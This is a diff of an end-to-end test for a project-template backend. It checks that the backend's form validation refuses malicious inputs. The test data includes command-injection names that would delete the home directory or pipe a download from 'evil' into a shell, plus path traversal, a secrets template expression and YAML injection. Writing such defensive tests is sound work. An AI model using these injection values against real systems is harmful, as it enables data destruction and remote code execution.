@@ -6,7 +6,7 @@ import {
 import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
 import request from 'supertest';
-import { projectValues, startTemplateBackend, TEMPLATE_REF, TemplateBackend } from './templateBackend';
+import { projectValues, startTemplateBackend, TEMPLATE_REF, TemplateBackend } from '../__testUtils__/templateBackend';
 
 jest.setTimeout(180_000);
 
@@ -121,26 +121,21 @@ describe('creating a project from the template, end to end in the backend', () =
   });
 
   it.each([
-    ['name', { name: '../escape' }, /instance.name does not match pattern/],
-    ['name', { name: 'x;rm -rf ~' }, /instance.name does not match pattern/],
-    ['name', { name: "a'; curl evil | sh" }, /instance.name does not match pattern/],
-    ['description', { description: '${{ secrets.GITHUB_TOKEN }}' }, /description: must not contain template expressions/],
-    ['description', { description: "x\nkind: Group\nmetadata: {name: admins}" }, /description/],
-    ['department', { department: 'DfT: {evil: yes}' }, /instance.department does not match pattern/],
-    ['classification', { classification: 'SECRET' }, /instance.classification is not one of enum values: OFFICIAL,OFFICIAL-SENSITIVE/],
-    ['lawfulBasis', { personalData: true, retentionPeriod: 'P7Y' }, /does not meet dependency required by instance.personalData/],
-  ])('refuses a bad %s, creating and registering nothing', async (_field, bad, message) => {
-    const badName = (bad as { name?: string }).name;
-    const name = badName ?? 'should-not-exist';
+    ['name', { name: '../escape' }, /^form 400: .*instance.name does not match pattern/],
+    ['name', { name: 'x;rm -rf ~' }, /^form 400: .*instance.name does not match pattern/],
+    ['name', { name: "a'; curl evil | sh" }, /^form 400: .*instance.name does not match pattern/],
+    ['description', { description: '${{ secrets.GITHUB_TOKEN }}' }, /^task failed: .*description: must not contain template expressions/],
+    ['description', { description: "x\nkind: Group\nmetadata: {name: admins}" }, /^task failed: .*description: must be a single line/],
+    ['department', { department: 'DfT: {evil: yes}' }, /^form 400: .*instance.department does not match pattern/],
+    ['classification', { classification: 'SECRET' }, /^form 400: .*instance.classification is not one of enum values: OFFICIAL,OFFICIAL-SENSITIVE/],
+    ['lawfulBasis', { personalData: true, retentionPeriod: 'P7Y' }, /^form 400: .*does not meet dependency required by instance.personalData/],
+  ])('refuses a bad %s, creating and registering nothing', async (_field, bad, refusal) => {
+    const name = (bad as { name?: string }).name ?? 'should-not-exist';
     const result = await runTask(projectValues({ name: 'should-not-exist', ...bad }));
-    const said = result.task ? `${result.task.status}\n${result.log}` : JSON.stringify(result.body);
-    if (result.task) {
-      expect(result.task.status).toBe('failed');
-      expect(result.log).toMatch(message);
-    } else {
-      expect(result.status).toBe(400);
-      expect(said).toMatch(message);
-    }
+    const outcome = result.task
+      ? `task ${result.task.status}: ${(result.log ?? '').replace(/\n/g, ' ')}`
+      : `form ${result.status}: ${JSON.stringify(result.body)}`;
+    expect(outcome).toMatch(refusal);
     expect(fs.readdirSync(backend.demoRepositories)).not.toContain(`${name}.git`);
     expect(demoRepositoryExists('should-not-exist')).toBe(false);
     expect((await registered('should-not-exist')).status).toBe(404);
